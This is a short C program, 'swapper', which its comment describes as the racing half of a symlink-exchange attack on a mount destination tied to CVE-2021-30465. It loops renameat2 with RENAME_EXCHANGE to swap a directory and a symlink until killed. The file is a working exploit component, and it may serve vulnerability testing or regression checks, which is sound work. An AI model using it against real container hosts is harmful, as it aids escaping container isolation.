/* swapper A B: exchanges the names A and B (a directory and a symlink, say)
 * with renameat2(RENAME_EXCHANGE) as fast as it can until killed or its
 * parent dies: the racing half of a symlink-exchange attack on a mount
 * destination (CVE-2021-30465). Prints nothing; exits 1 if a swap fails. */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: swapper A B\n");
		return 2;
	}
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	for (;;) {
		if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
			perror("renameat2");
			return 1;
		}
	}
}
